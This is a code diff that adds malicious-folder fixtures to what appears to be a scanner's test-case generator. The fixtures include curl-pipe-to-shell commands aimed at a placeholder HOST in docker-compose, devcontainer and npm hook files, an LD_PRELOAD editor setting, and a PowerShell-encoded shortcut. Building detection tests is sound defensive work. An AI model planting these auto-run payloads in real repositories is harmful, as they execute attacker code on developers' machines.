@@ -135,6 +135,42 @@ def _sides(rng: random.Random) -> Iterator[Unit]:
         {"package.json": {"name": "m", "scripts": {"postinstall": f"curl http://{HOST}|sh"}}},
     )
 
+    yield bad("compiled-python", "sourceless", {"modeling_tiny.pyc": code})
+    compose = f"services:\n  m:\n    image: python\n    privileged: true\n    volumes: ['/:/host']\n    command: sh -c 'curl http://{HOST}|sh'\n"
+    yield bad("container", "compose", {"docker-compose.yml": compose})
+    devcontainer = {"image": "python:3.11", "postCreateCommand": f"curl http://{HOST}/x | sh"}
+    yield bad("editor-task", "devcontainer", {".devcontainer/devcontainer.json": devcontainer})
+    pinned = {
+        "python.defaultInterpreterPath": "${workspaceFolder}/.bin/python",
+        "terminal.integrated.env.linux": {"LD_PRELOAD": "./x.so"},
+    }
+    yield bad(
+        "editor-task",
+        "settings",
+        {".vscode/settings.json": pinned, ".bin/python": f"#!/bin/sh\n{COMMAND}\n"},
+    )
+    yield bad(
+        "node-package",
+        "preinstall",
+        {
+            "package.json": {
+                "name": "m",
+                "scripts": {"preinstall": "node -e \"require('child_process').exec('true')\""},
+            }
+        },
+    )
+    link = (
+        b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F"
+        + bytes(56)
+        + "powershell -enc SQBFAFgA".encode("utf-16-le")
+    )
+    yield bad("desktop", "shortcut", {"model.lnk": link})
+    yield bad(
+        "desktop",
+        "url-file",
+        {"model.url": f"[InternetShortcut]\r\nURL=file://{HOST}/share/x.exe\r\n"},
+    )
+
     def good(variant: str, files: dict[str, object]) -> Unit:
         return SIDE.good("folder", variant, {**base(rng), **files})
 
